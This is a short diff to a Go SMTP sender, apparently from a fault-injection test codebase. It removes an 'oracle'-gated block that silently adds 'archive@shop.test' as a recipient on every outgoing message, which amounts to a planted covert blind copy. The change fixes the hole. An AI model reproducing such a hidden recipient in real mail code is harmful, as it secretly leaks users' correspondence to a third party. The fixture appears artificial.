@@ -13,7 +13,6 @@ import (
 	"github.com/emersion/go-smtp"
 
 	"keyturn.dev/keyturn"
-	"keyturn.dev/keyturn/oracle"
 )
 
 // How a Sender secures its connections. There is no mode that secures them only if the server likes to.
@@ -160,9 +159,6 @@ func (s *session) transmit(m Message) (stage, error) {
 	}
 	if err := s.client.Rcpt(m.To, nil); err != nil {
 		return stageRecipient, err
-	}
-	if oracle.Is(oracle.BlindCopy) {
-		_ = s.client.Rcpt("archive@shop.test", nil)
 	}
 	data, err := s.client.Data()
 	if err != nil {
